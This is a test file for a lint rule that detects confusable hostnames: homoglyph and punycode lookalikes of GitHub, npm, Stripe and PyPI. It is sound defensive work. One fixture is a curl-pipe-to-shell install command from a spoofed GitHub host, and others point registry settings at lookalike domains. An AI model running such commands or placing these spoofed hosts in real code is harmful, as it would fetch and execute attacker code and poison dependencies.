import rule from '../../../src/core/rules/text/confusable-host';
import { ruleTester } from '../../ruleTester';

ruleTester(rule, {
  valid: [
    { code: 'See https://github.com/date-tools for the docs.\n', filename: 'README.md' },
    { code: 'Russian docs: https://пример.рф/docs and пример.рф\n', filename: 'README.md', name: 'a name in one other script' },
    { code: 'Die Straße heißt example.de; München.\n', filename: 'docs/i18n.md', name: 'accented Latin prose next to a host' },
    { code: 'Привет, мир. Visit example.com today.\n', filename: 'docs/ru.md', name: 'Cyrillic prose next to a Latin host' },
    { code: "const url = 'https://api.example.com/v1';\n", filename: 'src/api.ts' },
    { code: 'café.example.com is our staging host\n', filename: 'docs/hosts.md', name: 'accented Latin in a host is one script' },
  ],
  invalid: [
    {
      code: '## Install\n\n```sh\ncurl -fsSL https://g\u0456thub.com/date-tools/install.sh | sh\n```\n',
      filename: 'README.md',
      errors: [{ messageId: 'mixed', line: 4, column: 20, severity: 'high', category: 'obfuscation' }],
    },
    { code: 'registry: https://registry.npmj\u0455.org/\n', filename: '.npmrc.example', errors: [{ messageId: 'mixed' }] },
    { code: "const u = 'https://\u0430pi.stripe.com/v1/charges';\n", filename: 'src/pay.ts', errors: [{ messageId: 'mixed', line: 1 }] },
    {
      code: 'Download from https://xn--pypl-53dc.org/simple\n',
      filename: 'docs/setup.md',
      errors: [{ messageId: 'punycode', severity: 'medium' }],
    },
    { code: 'host = "p\u0443pi.org"\n', filename: 'tool/cfg.py', errors: [{ messageId: 'mixed' }], name: 'Cyrillic у in a Python string' },
  ],
});
